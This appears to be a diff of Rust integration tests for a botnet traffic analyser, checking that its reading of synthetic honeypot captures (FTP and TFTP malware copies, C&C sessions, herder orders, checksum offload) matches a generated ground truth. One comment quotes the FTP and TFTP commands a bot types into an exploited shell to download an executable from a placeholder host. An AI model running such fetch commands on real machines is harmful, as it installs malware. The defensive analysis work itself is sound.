@@ -3,9 +3,10 @@
 
 use botscope_behavior::analysis::{Options, Report, Row};
 use botscope_behavior::orders::OrderKind;
+use botscope_behavior::pipeline::RunSummary;
 use botscope_behavior::{pipeline, Limits};
-use botscope_capture::EngineConfig;
-use botscope_synth::truth::Truth;
+use botscope_capture::{ChecksumMode, EngineConfig};
+use botscope_synth::truth::{CopyMethod, Truth};
 use botscope_synth::SynthConfig;
 use std::collections::BTreeMap;
 use std::sync::{Arc, Mutex, OnceLock};
@@ -17,6 +18,8 @@ pub struct Field {
     pub honeynet: Report,
     /// Analysis of the infected honeypots' capture (Fig. 3, Tables 9–11...).
     pub infected: Report,
+    /// What reading the infected honeypots' capture counted.
+    pub infected_summary: RunSummary,
     _dir: tempfile::TempDir,
 }
 
@@ -49,16 +52,15 @@ fn field(seed: u64, gre: bool) -> Arc<Field> {
         };
         let run = |rel: &[&str]| {
             let paths: Vec<_> = rel.iter().map(|r| dir.path().join(r)).collect();
-            pipeline::run(&paths, &EngineConfig::default(), Limits::default(), &opt)
-                .expect("reads")
-                .0
+            pipeline::run(&paths, &EngineConfig::default(), Limits::default(), &opt).expect("reads")
         };
-        let honeynet = run(&["pcap/honeynet-exploits.pcap", "pcap/infected.pcap"]);
-        let infected = run(&["pcap/infected.pcap"]);
+        let honeynet = run(&["pcap/honeynet-exploits.pcap", "pcap/infected.pcap"]).0;
+        let (infected, infected_summary) = run(&["pcap/infected.pcap"]);
         Arc::new(Field {
             truth,
             honeynet,
             infected,
+            infected_summary,
             _dir: dir,
         })
     })
@@ -519,4 +521,297 @@ fn human_chat_session_is_unattributed_and_tables_still_equal_truth() {
         .iter()
         .filter(|x| x.bot != std::net::IpAddr::V4(c.client))
         .all(|x| x.attribution.verdict == "cc"));
+}
+
+/// Issue 15, class 2: the field's FTP fetches go to FTP servers on ports
+/// other than 21 (random ones, and Sasser's 5554), in both captures. They
+/// are FTP copies, every one of them, and never IRC sessions: Table 9 of
+/// the run over both honeypot captures still equals the truth.
+#[test]
+fn ftp_on_non_standard_ports_is_counted_as_ftp_copies_never_irc() {
+    for (seed, gre) in SEEDS {
+        let f = field(seed, gre);
+        let ftp: Vec<_> = f.truth.copies.iter().filter(|c| c.via == "ftp").collect();
+        assert!(ftp.iter().all(|c| c.flow.resp_p != 21), "seed {seed}");
+        assert!(
+            ftp.iter().any(|c| c.flow.resp_p == 5554)
+                && ftp.iter().any(|c| c.file == "pcap/infected.pcap"),
+            "seed {seed}: no FTP fetch on 5554 or none in infected.pcap"
+        );
+        let got = f.honeynet.copies.iter().filter(|c| c.via == "ftp").count();
+        assert_eq!(got, ftp.len(), "seed {seed}: FTP copies");
+        assert_eq!(
+            counts(&f.honeynet.table9),
+            truth_counts(&f.truth.tables.table9),
+            "seed {seed}: Table 9 over both captures"
+        );
+        assert_eq!(f.honeynet.sessions.len(), f.truth.irc_sessions.len());
+        for c in &ftp {
+            assert!(
+                !f.honeynet
+                    .sessions
+                    .iter()
+                    .any(|s| s.server == c.flow.resp_h && s.port == c.flow.resp_p),
+                "seed {seed}: FTP server {}:{} taken for IRC",
+                c.flow.resp_h,
+                c.flow.resp_p
+            );
+        }
+    }
+}
+
+/// Issue 15, class 3: fetches typed into the exploit's bind shell (the
+/// cmd.exe banner, then `echo open A P > o & … & ftp -n -s:o` or `tftp -i
+/// A GET x.exe`), FTP ones in active mode too (the victim sends PORT, the
+/// infecting host connects from port 20): each copy has the truth's
+/// method by who started it (reverse_connect, tftp_get) and the truth's
+/// transport, and the bots infected this way show the shell in Fig. 3.
+#[test]
+fn typed_shell_fetches_are_classified_by_initiator() {
+    for (seed, gre) in SEEDS {
+        let f = field(seed, gre);
+        let typed: Vec<_> = f
+            .truth
+            .copies
+            .iter()
+            .filter(|c| c.shell.is_some())
+            .collect();
+        let active = typed
+            .iter()
+            .filter(|c| c.ftp.as_ref().is_some_and(|x| x.mode == "active"))
+            .count();
+        let tftp = typed.iter().filter(|c| c.via == "tftp").count();
+        assert!(
+            active > 0 && tftp > 0 && typed.len() > active + tftp,
+            "seed {seed}: {} typed, {active} active FTP, {tftp} TFTP",
+            typed.len()
+        );
+        for c in &typed {
+            let want = match c.method {
+                CopyMethod::TftpGet => "tftp_get",
+                CopyMethod::ReverseConnect => "reverse_connect",
+                CopyMethod::TcpPush => "tcp_push",
+            };
+            let victim = std::net::IpAddr::V4(f.truth.exploits[c.exploit as usize].victim);
+            let got = f
+                .honeynet
+                .copies
+                .iter()
+                .find(|g| g.victim == victim && g.ts.0.abs_diff(c.ts.0) < 1_000_000)
+                .unwrap_or_else(|| panic!("seed {seed}: typed copy {} not found", c.id));
+            assert_eq!(
+                (got.method.as_str(), got.via.as_str(), got.success),
+                (want, c.via.as_str(), c.success),
+                "seed {seed}: copy {} typed {:?}",
+                c.id,
+                c.shell.as_ref().map(|s| &s.typed)
+            );
+            if c.success {
+                assert_eq!(got.sha256.as_deref(), Some(c.sha256.as_str()));
+            }
+        }
+        // Fig. 3 (equal to the truth in fig3_infection_sequence_equals_truth)
+        // has the shell between exploit and copy for the bots typed into.
+        let shelled: Vec<_> = f
+            .truth
+            .tables
+            .fig3
+            .values()
+            .filter(|st| st.iter().any(|s| s == "shell"))
+            .collect();
+        assert!(!shelled.is_empty(), "seed {seed}");
+        for st in shelled {
+            assert_eq!(&st[..3], ["exploit", "shell", "copy"], "seed {seed}");
+        }
+    }
+}
+
+/// Issue 15, class 4: `vantage/infected-hostside.pcap` is the infected
+/// honeypots' capture as their VM host's bridge shows it, every TCP/UDP
+/// packet a honeypot sent carrying the partial checksum its virtual NIC
+/// leaves to offload. With `checksums auto` the reader counts the bad ones
+/// in its sample, stops validating, and every table equals the truth;
+/// with `on` it finds (and drops) exactly the truth's bad packets.
+#[test]
+fn checksum_offload_capture_auto_keeps_every_packet() {
+    let (seed, gre) = SEEDS[0];
+    let f = field(seed, gre);
+    let o = f.truth.offload.as_ref().expect("offload capture");
+    assert!(o.bad_checksums > 1000 && o.bad_in_sample * 10 > o.sample);
+    let opt = Options {
+        tz_offset_s: f.truth.tz_offset_s,
+        ..Default::default()
+    };
+    let read = |mode: ChecksumMode| {
+        let eng = EngineConfig {
+            checksums: mode,
+            ..Default::default()
+        };
+        pipeline::run(
+            &[f._dir.path().join(&o.file)],
+            &eng,
+            Limits::default(),
+            &opt,
+        )
+        .expect("reads")
+    };
+    let (r, sum) = read(ChecksumMode::Auto);
+    let ck = &sum.capture.checksums;
+    assert_eq!(ck.mode, ChecksumMode::Off, "{ck}");
+    assert_eq!((ck.sampled, ck.sample_bad), (o.sample, o.bad_in_sample));
+    assert_eq!(ck.dropped, 0);
+    assert_eq!(sum.capture.packets, o.packets);
+    assert_eq!(counts(&r.table9), truth_counts(&f.truth.tables.table9));
+    let t10: BTreeMap<String, u64> = r.table10.iter().map(|x| (x.key.clone(), x.count)).collect();
+    assert_eq!(t10, f.truth.tables.table10);
+    assert_eq!(counts(&r.table11), truth_counts(&f.truth.tables.table11));
+    assert_eq!(r.joins_per_local_hour, f.truth.tables.joins_per_local_hour);
+    assert_eq!(r.orders.len(), f.truth.orders.len());
+    assert_eq!(r.floods.len(), f.truth.floods.len());
+    assert_eq!(r.scans.len(), f.truth.scans.len());
+    assert_eq!(r.updates.len(), f.truth.updates.len());
+    let fig3: BTreeMap<String, Vec<String>> = r
+        .sequences
+        .iter()
+        .map(|s| {
+            (
+                s.bot.to_string(),
+                s.stages.iter().map(|x| x.stage.clone()).collect(),
+            )
+        })
+        .collect();
+    assert_eq!(fig3, f.truth.tables.fig3);
+    // The same analysis as the capture without offload, packet for packet.
+    assert_eq!(r.orders, f.infected.orders);
+    assert_eq!(r.copies, f.infected.copies);
+    // Validating every packet: the truth's bad checksums, all dropped.
+    let (_, sum) = read(ChecksumMode::On);
+    let ck = &sum.capture.checksums;
+    assert_eq!(
+        (ck.bad_ip, ck.bad_tcp + ck.bad_udp, ck.dropped),
+        (0, o.bad_checksums, o.bad_checksums)
+    );
+    // The honeynet-side capture itself has none.
+    assert_eq!(f.infected_summary.capture.checksums.dropped, 0);
+}
+
+/// Issue 15, class 5: `vantage/herder.pcap`, the herder's client: the
+/// orders it sent (to the bot's nick and to the channel) are the truth's,
+/// as sent orders of a herder session; the bot's relayed replies are
+/// linked to them, from the bot's prefix; the bot's address comes from it.
+#[test]
+fn herder_side_orders_and_replies_equal_truth() {
+    for (seed, gre) in SEEDS {
+        let f = field(seed, gre);
+        assert_eq!(f.truth.herder_sessions.len(), 1, "seed {seed}");
+        let h = &f.truth.herder_sessions[0];
+        let (r, _) = pipeline::run(
+            &[f._dir.path().join(&h.file)],
+            &EngineConfig::default(),
+            Limits::default(),
+            &Options::default(),
+        )
+        .expect("reads");
+        assert_eq!(r.sessions.len(), 1, "seed {seed}");
+        let s = &r.sessions[0];
+        assert_eq!(
+            (s.role.as_str(), s.nick.as_deref(), s.port),
+            ("herder", Some(h.nick.as_str()), h.port)
+        );
+        assert_eq!(s.server, std::net::IpAddr::V4(h.server));
+        assert!(r.table9.is_empty() && r.sequences.is_empty());
+        assert_eq!(r.orders.len(), h.orders.len(), "seed {seed}");
+        assert_eq!(r.unknown_orders, 0);
+        for (o, t) in r.orders.iter().zip(&h.orders) {
+            assert_eq!(
+                (o.raw.as_str(), o.order.command.as_str(), &o.order.args),
+                (t.raw.as_str(), t.command.as_str(), &t.args),
+                "seed {seed}"
+            );
+            assert_eq!(o.direction, "sent");
+            assert_eq!(o.sender.as_deref(), Some(h.nick.as_str()));
+            assert_eq!(o.target.as_deref(), Some(t.target.as_str()));
+            assert_eq!(o.bot_nick, t.bot_nick, "seed {seed}: {}", t.raw);
+            assert_eq!(
+                o.bot,
+                std::net::IpAddr::V4(t.bot.unwrap_or(std::net::Ipv4Addr::UNSPECIFIED)),
+                "seed {seed}: {}",
+                t.raw
+            );
+            let replies: Vec<&str> = o
+                .replies
+                .iter()
+                .map(|i| r.replies[*i].raw.as_str())
+                .collect();
+            assert_eq!(replies, t.replies, "seed {seed}: {}", t.raw);
+            for i in &o.replies {
+                assert_eq!(r.replies[*i].from.as_deref(), Some(h.bot_prefix.as_str()));
+            }
+        }
+        let t10: BTreeMap<String, u64> =
+            r.table10.iter().map(|x| (x.key.clone(), x.count)).collect();
+        let mut want = BTreeMap::new();
+        for t in h.orders.iter().filter(|t| t.command.starts_with("ddos.")) {
+            *want.entry(t.command.clone()).or_insert(0u64) += 1;
+        }
+        assert_eq!(t10, want, "seed {seed}");
+    }
+}
+
+/// Issue 15, class 7: the field's C&C servers at an odd address prefix
+/// every line with IRCv3 message tags (`@time=…;msgid=… :server 001 …`).
+/// Their sessions and orders equal the truth (the table tests above cover
+/// them with the rest), and no line went unparsed.
+#[test]
+fn ircv3_tagged_servers_sessions_and_orders_equal_truth() {
+    let mut tagged_total = 0;
+    for (seed, gre) in SEEDS {
+        let f = field(seed, gre);
+        let tagged: Vec<_> = f.truth.irc_sessions.iter().filter(|s| s.tags).collect();
+        tagged_total += tagged.len();
+        for t in &tagged {
+            let s = f
+                .infected
+                .sessions
+                .iter()
+                .find(|s| {
+                    s.bot == std::net::IpAddr::V4(t.bot)
+                        && s.start.0.abs_diff(t.connect.0) < 2_000_000
+                })
+                .unwrap_or_else(|| panic!("seed {seed}: tagged session {} missing", t.id));
+            assert_eq!(
+                (s.nick.as_deref(), &s.channels, &s.key),
+                (Some(t.nick.as_str()), &vec![t.channel.clone()], &t.key),
+                "seed {seed}"
+            );
+            // The JOIN goes out just before the generator's nominal time.
+            assert!(s.join.expect("joined").0.abs_diff(t.join.0) < 1_000_000);
+            let mut want: Vec<&str> = f
+                .truth
+                .orders
+                .iter()
+                .filter(|o| o.session == t.id)
+                .map(|o| o.raw.as_str())
+                .collect();
+            let mut got: Vec<&str> = f
+                .infected
+                .orders
+                .iter()
+                .filter(|o| o.uid == s.uid)
+                .map(|o| o.raw.as_str())
+                .collect();
+            want.sort();
+            got.sort();
+            assert_eq!(got, want, "seed {seed}: session {}", t.id);
+        }
+        assert!(
+            !f.infected_summary
+                .dissect
+                .anomalies
+                .by_reason
+                .contains_key("irc_unparsable_line"),
+            "seed {seed}"
+        );
+    }
+    assert!(tagged_total > 0, "no tagged C&C server in the fields");
 }
